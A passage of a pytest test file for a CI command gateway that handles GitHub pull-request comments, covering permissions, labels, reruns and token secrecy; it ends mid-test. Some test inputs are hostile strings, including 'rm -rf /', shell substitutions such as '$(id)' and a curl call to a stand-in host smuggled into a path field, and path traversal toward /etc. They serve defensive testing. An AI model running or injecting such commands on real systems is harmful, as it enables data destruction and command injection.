@@ -1,0 +1,810 @@
+"""`ci-policy comment` end to end: the gateway (ci_policy/commands/gateway.py) through the CLI,
+talking through PyGithub to a local fake of the GitHub REST API (tests/github_fake.py).
+
+Every test asserts the exact sequence of requests GitHub receives and that the token never
+appears in the output or in anything posted.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import secrets
+import shutil
+import socket
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Optional
+
+import pytest
+import yaml
+
+from ci_policy.cli import main
+from ci_policy.adapters.github.gateway import run_name
+from github_fake import FakeGitHub, comment_event, copy_example, git_blob_sha, workflow_dispatch_definition
+
+REPO, REPO_ID, PR, COMMENT_ID = "acme/minirl", 424242, 7, 3141592
+P = f"/repos/{REPO}"
+HEAD = "1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b"
+MOVED = "feedfacecafebeef00112233445566778899aabb"
+USERS = {  # login -> (user id, repository role)
+    "maria": (5001, "maintain"),
+    "wendy": (5002, "write"),
+    "ada": (5003, "admin"),
+    "tom": (5004, "triage"),
+    "rita": (5005, "read"),
+    "hank": (40000001, "read"),  # in the ci-helpers user_ids allowlist
+}
+USAGE = ("Accepted commands (the whole comment, one command): `/run-ci-<label>`, `/bypass-fastfail`, "
+         "`/clear-labels`, `/rerun-failed-ci`, `/rerun-test tests/<dir>/test_<name>.py`.")
+ALLOWED = ("run-ci-megatron, run-ci-fsdp, run-ci-sglang, run-ci-session, run-ci-rocm, run-ci-long, nightly, "
+           "bypass-fastfail")
+RERUN_WORKFLOW = Path(__file__).resolve().parents[3] / "examples/gpu-repo/.github/workflows/rerun-test.yml"
+# The run-name as rerun-test.yml writes it (see test_the_rerun_workflows_run_name_is_what_the_gateway_looks_for).
+# The run-name as GitHub reads it (YAML-parsed: an unquoted " #" would start a comment).
+RUN_NAME_AS_WRITTEN = yaml.safe_load(RERUN_WORKFLOW.read_text())["run-name"]
+
+
+# -- expected requests ---------------------------------------------------------------------------------------
+
+def perm(login: str) -> tuple:
+    return ("GET", f"{P}/collaborators/{login}/permission", {}, None)
+
+
+def reply(body: str) -> tuple:
+    return ("POST", f"{P}/issues/{PR}/comments", {}, {"body": body})
+
+
+REACT = ("POST", f"{P}/issues/comments/{COMMENT_ID}/reactions", {}, {"content": "+1"})
+PULL = ("GET", f"{P}/pulls/{PR}", {}, None)
+
+
+def tree(sha: str = HEAD) -> tuple:
+    return ("GET", f"{P}/git/trees/{sha}", {"recursive": "1"}, None)
+
+
+def blob(data: bytes) -> tuple:
+    return ("GET", f"{P}/git/blobs/{git_blob_sha(data)}", {}, None)
+
+
+def get_label(name: str) -> tuple:
+    return ("GET", f"{P}/labels/{name}", {}, None)
+
+
+def dispatch(inputs: dict, ref: str = "main") -> tuple:
+    return ("POST", f"{P}/actions/workflows/rerun-test.yml/dispatches", {}, {"ref": ref, "inputs": inputs})
+
+
+FIND_RUN = ("GET", f"{P}/actions/workflows/rerun-test.yml/runs", {"event": "workflow_dispatch", "per_page": "20"},
+            None)
+
+
+def inputs(test_file: str, *, sha: str = HEAD, image_tag: str = "v2.1", sglang_pr: str = "4242",
+           megatron_pr: str = "") -> dict:
+    return {"pull_number": str(PR), "head_sha": sha, "test_file": test_file, "image_tag": image_tag,
+            "sglang_pr": sglang_pr, "megatron_pr": megatron_pr}
+
+
+# -- the world: a fake GitHub, a trusted checkout, a PR checkout ---------------------------------------------
+
+@dataclass
+class Outcome:
+    rc: int
+    out: str
+    err: str
+
+
+class World:
+    def __init__(self, gh: FakeGitHub, tmp: Path, token: str, capsys) -> None:
+        self.gh, self.tmp, self.token, self.capsys = gh, tmp, token, capsys
+        self.trusted = copy_example(tmp / "trusted")  # the default branch: policy, config, labels
+        self.pr = copy_example(tmp / "pr")            # the PR head's files, served as its git tree
+        self.commit_pr = True
+
+    def policy(self, data: dict) -> None:
+        (self.trusted / ".github/ci-commands.json").write_text(json.dumps(data))
+
+    def example_policy(self) -> dict:
+        return json.loads((self.trusted / ".github/ci-commands.json").read_text())
+
+    def pr_bytes(self, rel: str) -> bytes:
+        return (self.pr / rel).read_bytes()
+
+    def run(self, body: str, *extra: str, login: str = "maria", **event) -> Outcome:
+        uid = USERS.get(login, (6000, None))[0]
+        event.setdefault("user_id", uid)
+        self.gh.user_ids.setdefault(login, uid)
+        (self.tmp / "event.json").write_text(json.dumps(
+            comment_event(body, login=login, repository=event.pop("repository", REPO),
+                          repository_id=event.pop("repository_id", REPO_ID), number=PR, comment_id=COMMENT_ID,
+                          **event)))
+        if self.commit_pr:
+            self.gh.add_commit(HEAD, self.pr)
+        self.capsys.readouterr()
+        rc = main(["comment", "--repo", str(self.trusted), "--event", str(self.tmp / "event.json"),
+                   "--repository", REPO, "--repository-id", str(REPO_ID), "--api-url", self.gh.url, *extra])
+        out, err = self.capsys.readouterr()
+        # The token goes to GitHub in the Authorization header, and nowhere else.
+        assert self.token not in out and self.token not in err
+        assert "Traceback" not in out + err
+        for request in self.gh.requests:
+            assert request.authorization == f"token {self.token}"
+            assert self.token not in json.dumps(request.body) and self.token not in request.path
+        assert self.token not in json.dumps(self.gh.comments)
+        return Outcome(rc, out, err)
+
+    def calls(self) -> list[tuple]:
+        return self.gh.calls()
+
+
+@pytest.fixture
+def gh():
+    fake = FakeGitHub("acme", "minirl").start()
+    yield fake
+    fake.stop()
+
+
+@pytest.fixture
+def world(gh: FakeGitHub, tmp_path: Path, monkeypatch, capsys) -> World:
+    token = "ghs_" + secrets.token_hex(18)
+    monkeypatch.setenv("GITHUB_TOKEN", token)
+    for name in ("GITHUB_EVENT_PATH", "GITHUB_REPOSITORY", "GITHUB_REPOSITORY_ID", "GITHUB_API_URL"):
+        monkeypatch.delenv(name, raising=False)
+    for login, (uid, role) in USERS.items():
+        gh.roles[login] = role
+        gh.user_ids[login] = uid
+    gh.default_role = "read"
+    gh.repo_labels |= {"run-ci-megatron", "run-ci-fsdp", "run-ci-sglang", "run-ci-session", "run-ci-long",
+                       "nightly", "bypass-fastfail", "documentation"}  # no run-ci-rocm
+    gh.add_pull(PR, HEAD, body="Fixes the loss.\r\n\r\nci-image-tag: v2.1\r\nci-sglang-pr: 4242\r\n",
+                labels=("documentation",))
+    gh.workflows["rerun-test.yml"] = workflow_dispatch_definition(RERUN_WORKFLOW, run_name=RUN_NAME_AS_WRITTEN)
+    return World(gh, tmp_path, token, capsys)
+
+
+def done(message: str) -> str:
+    return f"ci-policy comment: done: {message}\n"
+
+
+# -- who is heard at all: ignored without a single request ---------------------------------------------------
+
+@pytest.mark.parametrize("event, reason", [
+    ({"action": "edited"}, "comment action is 'edited', not 'created'"),
+    ({"action": "deleted"}, "comment action is 'deleted', not 'created'"),
+    ({"on_pull_request": False}, "the comment is not on a pull request"),
+    ({"user_type": "Bot"}, "the comment author is a 'Bot', not a human user"),
+    ({"user_type": "Organization"}, "the comment author is a 'Organization', not a human user"),
+    ({"sender_id": 5002}, "the comment author is not the event sender"),
+    ({"repository": "evil/minirl"}, "the event is for repository 'evil/minirl' (id 424242), not acme/minirl "
+                                    "(id 424242)"),
+    ({"repository": "acme/minirl-fork"}, "the event is for repository 'acme/minirl-fork' (id 424242), not "
+                                         "acme/minirl (id 424242)"),
+    ({"repository_id": 424243}, "the event is for repository 'acme/minirl' (id 424243), not acme/minirl "
+                                "(id 424242)"),
+])
+def test_events_that_are_not_a_human_creating_a_pr_comment_here_are_ignored_without_requests(world, event, reason):
+    result = world.run("/run-ci-megatron", login="ada", **event)
+    assert (result.rc, result.out, result.err) == (0, f"ci-policy comment: ignored: {reason}\n", "")
+    assert world.calls() == []
+
+
+@pytest.mark.parametrize("body", [
+    "LGTM!",
+    "Thanks, merging after CI.",
+    "\u2215run-ci-megatron",      # DIVISION SLASH
+    "\uff0frun-ci-megatron",      # FULLWIDTH SOLIDUS
+    "\u2215rerun-test tests/e2e/test_megatron_sft.py",
+    "\uff0fclear-labels",
+])
+def test_ordinary_comments_and_look_alike_slashes_are_ignored_without_requests(world, body):
+    result = world.run(body, login="ada")
+    assert (result.rc, result.out) == (0, "ci-policy comment: ignored: not a command\n")
+    assert world.calls() == []
+
+
+def test_a_command_for_another_job_is_ignored_without_requests(world):
+    result = world.run("/rerun-test tests/e2e/test_megatron_sft.py", "--commands", "add_label,clear_labels")
+    assert (result.rc, result.out) == (
+        0, "ci-policy comment: ignored: /rerun-test tests/e2e/test_megatron_sft.py is handled by another job\n")
+    assert world.calls() == []
+
+
+def test_an_unknown_command_kind_is_a_usage_error(world):
+    result = world.run("/clear-labels", "--commands", "clear_labels,bypass_fastfail")
+    assert (result.rc, result.out) == (1, "")
+    assert result.err == ("--commands: unknown command kind(s) bypass_fastfail; expected some of add_label, "
+                          "clear_labels, rerun_failed_ci, rerun_test\nci-policy: 1 error\n")
+    assert world.calls() == []
+
+
+def test_an_invalid_access_policy_stops_before_any_request(world):
+    data = world.example_policy()
+    data["commands"]["add_label"]["allowed_labels"].append("run-ci-all")
+    world.policy(data)
+    result = world.run("/run-ci-megatron")
+    assert (result.rc, result.out) == (1, "")
+    assert result.err == (".github/ci-commands.json: commands.add_label.allowed_labels: 'run-ci-all' is neither "
+                          "run-ci-<known label> nor a workflow-only label (nightly, bypass-fastfail)\n"
+                          "    hint: known labels are in labels.py\nci-policy: 1 error\n")
+    assert world.calls() == []
+
+
+def test_a_symlinked_access_policy_is_refused(world):
+    policy = world.trusted / ".github/ci-commands.json"
+    shutil.move(str(policy), str(world.tmp / "elsewhere.json"))
+    policy.symlink_to(world.tmp / "elsewhere.json")
+    result = world.run("/run-ci-megatron")
+    assert result.rc == 1
+    assert result.err.startswith(".github/ci-commands.json: access policy .github/ci-commands.json is a symlink; "
+                                 "ci-policy refuses symlinks in a checkout\n")
+    assert world.calls() == []
+
+
+# -- adding labels -------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("login", ["maria", "wendy", "ada", "tom"])
+def test_a_helper_adds_an_allowed_existing_label(world, login):
+    result = world.run("/run-ci-megatron", login=login)
+    assert (result.rc, result.out, result.err) == (0, done("added run-ci-megatron"), "")
+    assert world.calls() == [
+        perm(login),
+        get_label("run-ci-megatron"),
+        ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["run-ci-megatron"]}),
+        REACT,
+    ]
+    assert world.gh.issue_labels[PR] == ["documentation", "run-ci-megatron"]
+    assert world.gh.comments == []
+
+
+def test_bypass_fastfail_adds_its_workflow_label(world):
+    result = world.run("  /bypass-fastfail\r\n", login="tom")
+    assert (result.rc, result.out) == (0, done("added bypass-fastfail"))
+    assert world.calls() == [
+        perm("tom"), get_label("bypass-fastfail"),
+        ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["bypass-fastfail"]}), REACT]
+
+
+def test_a_read_only_user_on_the_user_id_allowlist_may_add_labels(world):
+    result = world.run("/run-ci-fsdp", login="hank")
+    assert (result.rc, result.out) == (0, done("added run-ci-fsdp"))
+    assert world.calls() == [perm("hank"), get_label("run-ci-fsdp"),
+                             ("POST", f"{P}/issues/{PR}/labels", {}, {"labels": ["run-ci-fsdp"]}), REACT]
+
+
+def test_the_allowlist_is_by_user_id_not_by_login(world):
+    # A read-only user who takes the login of an allowlisted user is still refused: ids decide.
+    world.gh.user_ids["hank"] = 6666
+    result = world.run("/run-ci-fsdp", login="hank", user_id=6666)
+    assert (result.rc, result.out) == (0, "ci-policy comment: refused: hank (read) is not in group ci-helpers\n")
+    assert world.calls() == [perm("hank"), reply(
+        "> /run-ci-fsdp\n\n@hank is not allowed to use `/run-ci-fsdp` (it needs the ci-helpers group; your "
+        "repository permission is read).")]
+
+
+@pytest.mark.parametrize("login, permission", [("rita", "read"), ("mallory", "read")])
+def test_an_unauthorised_user_gets_a_reply_and_nothing_else(world, login, permission):
+    result = world.run("/run-ci-megatron", login=login, author_association="OWNER")  # never trusted
+    assert (result.rc, result.out) == (0, f"ci-policy comment: refused: {login} ({permission}) is not in group "
+                                          "ci-helpers\n")
+    assert world.calls() == [perm(login), reply(
+        f"> /run-ci-megatron\n\n@{login} is not allowed to use `/run-ci-megatron` (it needs the ci-helpers group; "
+        f"your repository permission is {permission}).")]
+    assert [r.method for r in world.gh.mutating] == ["POST"]
+    assert world.gh.issue_labels[PR] == ["documentation"]
+
+
+def test_a_permission_answer_for_another_user_id_is_not_trusted(world):
+    # The login was renamed and now belongs to someone else: the answer is about them.
+    world.gh.user_ids["wendy"] = 7777
+    result = world.run("/clear-labels", login="wendy", user_id=5002)
+    assert (result.rc, result.out) == (0, "ci-policy comment: refused: wendy (none) is not in group ci-helpers\n")
+    assert [r.method for r in world.gh.mutating] == ["POST"]
+
+
+def test_a_user_the_permission_endpoint_does_not_know_has_no_permission(world):
+    world.gh.missing_users.add("ghost")
+    result = world.run("/clear-labels", login="ghost")
+    assert (result.rc, result.out) == (0, "ci-policy comment: refused: ghost (none) is not in group ci-helpers\n")
+    assert world.calls() == [perm("ghost"), reply(
+        "> /clear-labels\n\n@ghost is not allowed to use `/clear-labels` (it needs the ci-helpers group; your "
+        "repository permission is none).")]
+
+
+def test_the_role_decides_not_the_legacy_permission_field(world):
+    # GitHub reports triage as "permission": "read" and maintain as "write"; the role is in role_name.
+    data = world.example_policy()
+    data["groups"]["maintainers"]["repository_permissions"] = ["admin", "maintain"]
+    world.policy(data)
+    run = world.gh.add_run("pr-test.yml", head_sha=HEAD, conclusion="success")
+    result = world.run("/rerun-failed-ci", login="maria")  # maintain: legacy permission "write"
+    assert result.out == done("rerun: nothing; not rerun: pr-test.yml: latest run is completed/success")
+    assert world.calls() == [perm("maria"), PULL, ("GET", f"{P}/actions/workflows/pr-test.yml/runs",
+                                                   {"head_sha": HEAD, "per_page": "1"}, None), REACT,
+                             reply("> /rerun-failed-ci\n\nnothing to rerun: pr-test.yml: latest run is "
+                                   "completed/success.")]
+    assert run["conclusion"] == "success"
+    world.gh.requests.clear()
+    result = world.run("/rerun-failed-ci", login="wendy")
+    assert result.out == "ci-policy comment: refused: wendy (write) is not in group maintainers\n"
+    assert world.calls() == [perm("wendy"), reply(
+        "> /rerun-failed-ci\n\n@wendy is not allowed to use `/rerun-failed-ci` (it needs the maintainers group; "
+        "your repository permission is write).")]
+
+
+def test_a_triage_user_is_refused_a_maintainer_command(world):
+    result = world.run("/rerun-test tests/e2e/test_megatron_sft.py", login="tom")
+    assert result.out == "ci-policy comment: refused: tom (triage) is not in group maintainers\n"
+    assert world.calls() == [perm("tom"), reply(
+        "> /rerun-test tests/e2e/test_megatron_sft.py\n\n@tom is not allowed to use "
+        "`/rerun-test tests/e2e/test_megatron_sft.py` (it needs the maintainers group; your repository permission "
+        "is triage).")]
+
+
+@pytest.mark.parametrize("body, label", [("/run-ci-all", "run-ci-all"),
+                                         ("/run-ci-documentation", "run-ci-documentation"),
+                                         ("/run-ci-Megatron", "run-ci-Megatron")])
+def test_a_label_the_policy_does_not_allow_is_refused(world, body, label):
+    result = world.run(body, login="ada")
+    assert (result.rc, result.out) == (0, f"ci-policy comment: refused: label {label} is not allowed\n")
+    assert world.calls() == [perm("ada"), reply(
+        f"> {body}\n\n`{label}` is not a label this command may add (allowed: {ALLOWED}).")]
+
+
+def test_bypass_fastfail_needs_to_be_an_allowed_label(world):
+    data = world.example_policy()
+    data["commands"]["add_label"]["allowed_labels"].remove("bypass-fastfail")
+    world.policy(data)
+    result = world.run("/bypass-fastfail", login="ada")
+    assert result.out == "ci-policy comment: refused: label bypass-fastfail is not allowed\n"
+    assert world.calls() == [perm("ada"), reply(
+        "> /bypass-fastfail\n\n`bypass-fastfail` is not a label this command may add (allowed: run-ci-megatron, "
+        "run-ci-fsdp, run-ci-sglang, run-ci-session, run-ci-rocm, run-ci-long, nightly).")]
+
+
+def test_an_allowed_label_that_does_not_exist_is_not_created(world):
+    # Adding a missing label to an issue would create it: the gateway checks first.
+    result = world.run("/run-ci-rocm", login="ada")
+    assert (result.rc, result.out) == (0, "ci-policy comment: refused: label run-ci-rocm does not exist\n")
+    assert world.calls() == [perm("ada"), get_label("run-ci-rocm"), reply(
+        "> /run-ci-rocm\n\nthe label `run-ci-rocm` does not exist in this repository.")]
+    assert "run-ci-rocm" not in world.gh.repo_labels
+
+
+def test_a_command_the_policy_does_not_configure_is_refused_before_the_permission_check(world):
+    data = world.example_policy()
+    del data["commands"]["clear_labels"]
+    world.policy(data)
+    result = world.run("/clear-labels", login="ada")
+    assert (result.rc, result.out) == (0, "ci-policy comment: refused: /clear-labels is not enabled\n")
+    assert world.calls() == [reply("> /clear-labels\n\n`/clear-labels` is not enabled for this repository.")]
+
+
+# -- comments that are not exactly one command ---------------------------------------------------------------
+
+@pytest.mark.parametrize("body", [
+    "/run-ci-megatron /run-ci-fsdp",
+    "/run-ci-megatron\n/clear-labels",
+    "/rerun-test tests/e2e/test_megatron_sft.py\n/run-ci-megatron",       # newline injection
+    "/rerun-test tests/e2e/test_megatron_sft.py\nrm -rf /",
+    "please /rerun-failed-ci",
+])
+def test_more_than_one_command_gets_the_usage_and_nothing_else(world, body):
+    result = world.run(body, login="rita")
+    assert (result.rc, result.out) == (0, "ci-policy comment: refused: not exactly one command\n")
+    assert world.calls() == [reply(f"this comment is not exactly one command. {USAGE}")]
+
+
+@pytest.mark.parametrize("path, shown", [
+    ("tests/../../etc/test_passwd.py", "tests/../../etc/test_passwd.py"),
+    ("/etc/test_passwd.py", "/etc/test_passwd.py"),
+    ("tests/e2e/$(id)/test_a.py", "tests/e2e/??id?/test_a.py"),
+    ("tests/e2e/test_a.py;$(curl${IFS}evil)", "tests/e2e/test_a.py???curl??IFS?evil?"),
+    ("tests/e2e/test_`id`.py", "tests/e2e/test_?id?.py"),
+])
+def test_an_unsafe_rerun_path_gets_a_reply_and_nothing_else(world, path, shown):
+    result = world.run(f"/rerun-test {path}", login="maria")
+    assert (result.rc, result.out) == (0, "ci-policy comment: refused: not exactly one command\n")
+    assert world.calls() == [reply(f"`{shown}` is not a test file path of the form tests/.../test_*.py. {USAGE}")]
+
+
+# -- clearing labels -----------------------------------------------------------------------------------------
+
+def test_clear_labels_removes_only_ci_labels_with_url_encoded_names(world):
+    world.gh.issue_labels[PR] = ["run-ci-megatron", "good first issue", "nightly", "bypass-fastfail",
+                                 "nightly-build", "run-ci-ä b/c", "Run-CI-fsdp", "documentation", "run-ci-long",
+                                 "ci: run-ci-x"]
+    result = world.run("/clear-labels", login="tom")
+    assert (result.rc, result.out) == (0, done("removed 5 CI label(s): run-ci-megatron, nightly, bypass-fastfail, "
+                                               "run-ci-ä b/c, run-ci-long"))
+    base = f"{P}/issues/{PR}/labels"
+    assert world.calls() == [
+        perm("tom"),
+        ("GET", base, {"per_page": "100"}, None),
+        ("DELETE", f"{base}/run-ci-megatron", {}, None),
+        ("DELETE", f"{base}/nightly", {}, None),
+        ("DELETE", f"{base}/bypass-fastfail", {}, None),
+        ("DELETE", f"{base}/run-ci-%C3%A4%20b%2Fc", {}, None),
+        ("DELETE", f"{base}/run-ci-long", {}, None),
+        REACT,
+    ]
+    assert world.gh.issue_labels[PR] == ["good first issue", "nightly-build", "Run-CI-fsdp", "documentation",
+                                         "ci: run-ci-x"]
+
+
+def test_clear_labels_without_ci_labels_reacts_and_says_so(world):
+    result = world.run("/clear-labels", login="tom")
+    assert (result.rc, result.out) == (0, done("removed 0 CI label(s)"))
+    assert world.calls() == [perm("tom"), ("GET", f"{P}/issues/{PR}/labels", {"per_page": "100"}, None), REACT,
+                             reply("> /clear-labels\n\nthere were no CI labels to remove.")]
+
+
+# -- rerunning failed jobs -----------------------------------------------------------------------------------
+
+def test_rerun_failed_ci_reruns_only_failed_cancelled_or_timed_out_latest_runs_of_the_head(world):
+    data = world.example_policy()
+    workflows = ["pr-test.yml", "lint.yml", "docs.yml", "gpu.yml", "rocm.yml", "nightly.yml", "bench.yml"]
+    data["commands"]["rerun_failed_ci"]["workflows"] = workflows
+    world.policy(data)
+    gh = world.gh
+    gh.add_run("pr-test.yml", head_sha=HEAD, conclusion="failure")            # superseded
+    gh.add_run("pr-test.yml", head_sha=HEAD, conclusion="success")            # latest: fine
+    gh.add_run("lint.yml", head_sha=HEAD, conclusion="success")
+    lint = gh.add_run("lint.yml", head_sha=HEAD, conclusion="failure")        # latest: failed
+    gh.add_run("lint.yml", head_sha=MOVED, conclusion="success")              # another commit
+    docs = gh.add_run("docs.yml", head_sha=HEAD, conclusion="cancelled")
+    gpu = gh.add_run("gpu.yml", head_sha=HEAD, conclusion="timed_out")
+    gh.add_run("rocm.yml", head_sha=HEAD, conclusion=None, status="in_progress")
+    gh.add_run("nightly.yml", head_sha=MOVED, conclusion="failure")           # not for this head
+    gh.add_run("bench.yml", head_sha=HEAD, conclusion="action_required")
+    result = world.run("/rerun-failed-ci", login="wendy")
+    assert (result.rc, result.err) == (0, "")
+    assert result.out == done(
+        f"rerun: lint.yml run {lint['id']}, docs.yml run {docs['id']}, gpu.yml run {gpu['id']}; not rerun: "
+        f"pr-test.yml: latest run is completed/success; rocm.yml: latest run is in_progress/None; "
+        f"nightly.yml: no run for {HEAD[:12]}; bench.yml: latest run is completed/action_required")
+
+    def runs(wf):
+        return ("GET", f"{P}/actions/workflows/{wf}/runs", {"head_sha": HEAD, "per_page": "1"}, None)
+
+    def rerun(run):
+        return ("POST", f"{P}/actions/runs/{run['id']}/rerun-failed-jobs", {}, None)
+
+    assert world.calls() == [
+        perm("wendy"), PULL,
+        runs("pr-test.yml"),
+        runs("lint.yml"), rerun(lint),
+        runs("docs.yml"), rerun(docs),
+        runs("gpu.yml"), rerun(gpu),
+        runs("rocm.yml"), runs("nightly.yml"), runs("bench.yml"),
+        REACT,
+    ]
+    assert gh.reruns == [lint["id"], docs["id"], gpu["id"]]
+
+
+# -- rerunning one test file ---------------------------------------------------------------------------------
+
+def test_rerun_test_dispatches_the_file_at_the_head_and_replies_with_the_run(world):
+    gh = world.gh
+    file = "tests/e2e/test_megatron_sft.py"
+    # Other dispatched runs: an older one of the same file at another commit, and a newer one.
+    gh.add_run("rerun-test.yml", head_sha="0" * 40, conclusion="success", event="workflow_dispatch",
+               display_title=run_name(PR, file, MOVED))
+    gh.on_dispatch = lambda fake, run: fake.add_run(
+        "rerun-test.yml", head_sha="0" * 40, conclusion=None, status="queued", event="workflow_dispatch",
+        display_title=run_name(8, "tests/e2e/test_fsdp_grpo.py", MOVED))
+    result = world.run(f"/rerun-test {file}", login="maria")
+    (ours,) = [r for r in gh.runs["rerun-test.yml"] if r["display_title"] == run_name(PR, file, HEAD)]
+    assert (result.rc, result.out, result.err) == (0, done(f"dispatched rerun-test.yml for {file} at {HEAD}"), "")
+    body = (f"> /rerun-test {file}\n\nRerunning `{file}` (cuda, stage-b-1-gpu-h200) on [h200, 1gpu] at "
+            f"{HEAD[:12]}, timeout 900s: https://github.com/acme/minirl/actions/runs/{ours['id']}")
+    assert world.calls() == [
+        perm("maria"), PULL, tree(),
+        blob(world.pr_bytes("labels.py")), blob(world.pr_bytes(file)),
+        dispatch(inputs(file)),
+        FIND_RUN,
+        REACT,
+        reply(body),
+    ]
+    assert ours["display_title"] == f"rerun {file} for #{PR} at {HEAD}"
+
+
+def dispatched(world: World, file: str, sent: dict, placement: str, *, login: str = "maria",
+               ref: str = "main", labels: Optional[bytes] = None) -> list[tuple]:
+    """The exact requests of a successful /rerun-test: reads, dispatch, finding the run, +1, reply."""
+    sha = sent["head_sha"]
+    (run,) = [r for r in world.gh.runs["rerun-test.yml"] if r["display_title"] == run_name(PR, file, sha)]
+    return [
+        perm(login), PULL, tree(sha),
+        blob(world.pr_bytes("labels.py") if labels is None else labels), blob(world.pr_bytes(file)),
+        dispatch(sent, ref),
+        FIND_RUN,
+        REACT,
+        reply(f"> /rerun-test {file}\n\nRerunning `{file}` {placement}: "
+              f"https://github.com/acme/minirl/actions/runs/{run['id']}"),
+    ]
+
+
+def test_rerun_test_of_a_rocm_file_runs_on_the_rocm_runners_with_every_pin(world):
+    world.gh.pulls[PR].body = "ci-megatron-pr: 1234567\nci-image-tag: rocm-6.4_nightly\nci-sglang-pr: 1"
+    file = "tests/e2e/test_rocm_megatron_sft.py"
+    result = world.run(f"/rerun-test {file}", login="ada")
+    assert (result.rc, result.out) == (0, done(f"dispatched rerun-test.yml for {file} at {HEAD}"))
+    sent = inputs(file, image_tag="rocm-6.4_nightly", sglang_pr="1", megatron_pr="1234567")
+    assert world.calls() == dispatched(world, file, sent, f"(rocm, stage-c-4-gpu-mi350) on [mi350, 4gpu] at "
+                                       f"{HEAD[:12]}, timeout 1620s", login="ada")
+
+
+def test_rerun_test_dispatches_on_the_configured_ref_without_pins(world):
+    data = world.example_policy()
+    data["commands"]["rerun_test"]["ref"] = "ci/rerun"
+    world.policy(data)
+    world.gh.branches["ci/rerun"] = "c" * 40
+    world.gh.pulls[PR].body = None
+    file = "tests/fast/test_kl.py"
+    result = world.run(f"/rerun-test {file}", login="ada")
+    assert (result.rc, result.out) == (0, done(f"dispatched rerun-test.yml for {file} at {HEAD}"))
+    assert world.calls() == dispatched(world, file, inputs(file, image_tag="", sglang_pr=""),
+                                       f"(cpu, stage-a-cpu) on [ubuntu-latest] at {HEAD[:12]}, timeout 900s",
+                                       login="ada", ref="ci/rerun")
+
+
+def test_a_pr_that_adds_a_label_and_a_test_using_it_can_rerun_that_test(world):
+    labels = world.pr / "labels.py"
+    labels.write_text(labels.read_text().replace('"long":', '"vllm": "vLLM rollout",\n    "long":'))
+    file = "tests/e2e/test_vllm_rollout.py"
+    (world.pr / file).write_text('from ci_policy import register_cuda_ci\n\nregister_cuda_ci(est_time=400, '
+                                 'suite="stage-b-1-gpu-h200", labels=["vllm"])\n\nimport unittest\n\n'
+                                 'if __name__ == "__main__":\n    unittest.main()\n')
+    result = world.run(f"/rerun-test {file}", login="maria")
+    assert result.out == done(f"dispatched rerun-test.yml for {file} at {HEAD}")
+    assert world.calls() == dispatched(world, file, inputs(file), f"(cuda, stage-b-1-gpu-h200) on [h200, 1gpu] at "
+                                       f"{HEAD[:12]}, timeout 1200s")
+    assert "vllm" not in (world.trusted / "labels.py").read_text()  # the trusted labels do not know it
+
+
+def test_the_head_sha_read_at_comment_time_is_the_one_dispatched(world):
+    file = "tests/e2e/test_megatron_sft.py"
+    moved = world.tmp / "moved"
+    shutil.copytree(world.pr, moved)
+    (moved / file).write_text("# the file was rewritten after the comment\n")
+    world.gh.add_commit(MOVED, moved)
+
+    def push(fake: FakeGitHub, pull) -> None:  # a push lands right after the gateway read the PR
+        pull.head_sha = MOVED
+
+    world.gh.on_pull_read = push
+    result = world.run(f"/rerun-test {file}", login="maria")
+    assert result.out == done(f"dispatched rerun-test.yml for {file} at {HEAD}")
+    assert world.gh.pulls[PR].reads == 1 and world.gh.pulls[PR].head_sha == MOVED
+    assert world.calls() == dispatched(world, file, inputs(file, sha=HEAD), f"(cuda, stage-b-1-gpu-h200) on "
+                                       f"[h200, 1gpu] at {HEAD[:12]}, timeout 900s")
+    assert tree(MOVED) not in world.calls()
+
+
+def refused(world: World, file: str, reason: str, reads: list[tuple], login: str = "maria") -> None:
+    # The reason is quoted as code: much of it is text the PR's author controls.
+    assert world.calls() == [perm(login), PULL, *reads,
+                             reply(f"> /rerun-test {file}\n\ncannot rerun `{file}`: `{reason}`")]
+    assert world.gh.dispatches == [] and world.gh.reactions == []
+
+
+def test_an_unregistered_file_is_not_dispatched(world):
+    file = "tests/e2e/test_plain.py"
+    (world.pr / file).write_text("def test_nothing():\n    pass\n")
+    result = world.run(f"/rerun-test {file}")
+    assert (result.rc, result.out) == (0, f"ci-policy comment: refused: {file} is not registered for any stage\n")
+    refused(world, file, f"{file} is not registered for any stage",
+            [tree(), blob(world.pr_bytes("labels.py")), blob(world.pr_bytes(file))])
+
+
+def test_a_file_missing_from_the_head_is_not_dispatched(world):
+    file = "tests/e2e/test_missing.py"
+    result = world.run(f"/rerun-test {file}")
+    assert result.rc == 0
+    refused(world, file, f"test file {file} does not exist at {HEAD[:12]}", [tree(), blob(world.pr_bytes("labels.py"))])
+
+
+@pytest.mark.parametrize("file, reason", [
+    ("tests/e2e/test_rocm_fsdp_grpo.py", "tests/e2e/test_rocm_fsdp_grpo.py has 2 enabled registrations (cuda "
+     "stage-c-4-gpu-h200 (line 9), rocm stage-c-4-gpu-mi350 (line 10)); /rerun-test needs exactly one"),
+    ("tests/e2e/test_fsdp_checkpoint_resume.py", "tests/e2e/test_fsdp_checkpoint_resume.py is disabled: flaky on "
+     "H200 driver 580, tracked in #1234"),
+    ("tests/e2e/test_gb200_scaling.py", "tests/e2e/test_gb200_scaling.py is registered to stage-d-8-gpu-gb200, an "
+     "external stage that ci-policy does not run"),
+])
+def test_a_file_that_does_not_resolve_to_one_runnable_stage_is_not_dispatched(world, file, reason):
+    assert world.run(f"/rerun-test {file}").rc == 0
+    refused(world, file, reason, [tree(), blob(world.pr_bytes("labels.py")), blob(world.pr_bytes(file))])
+
+
+def test_a_symlinked_test_file_is_not_read(world):
+    file = "tests/e2e/test_link.py"
+    (world.pr / file).symlink_to("../../labels.py")
+    assert world.run(f"/rerun-test {file}").rc == 0
+    refused(world, file, f"test file {file} is a symlink; ci-policy refuses symlinks in a checkout",
+            [tree(), blob(world.pr_bytes("labels.py"))])
+    (entry,) = [e for e in world.gh.trees[HEAD] if e.path == file]
+    assert entry.mode == "120000"
+
+
+def test_a_directory_at_the_test_path_is_not_read_as_a_file(world):
+    file = "tests/e2e/test_dir.py"
+    (world.pr / file).mkdir()
+    (world.pr / file / "test_inner.py").write_text("x = 1\n")
+    assert world.run(f"/rerun-test {file}").rc == 0
+    refused(world, file, f"test file {file} is not a regular file", [tree(), blob(world.pr_bytes("labels.py"))])
+
+
+def test_a_symlinked_directory_on_the_path_is_refused(world):
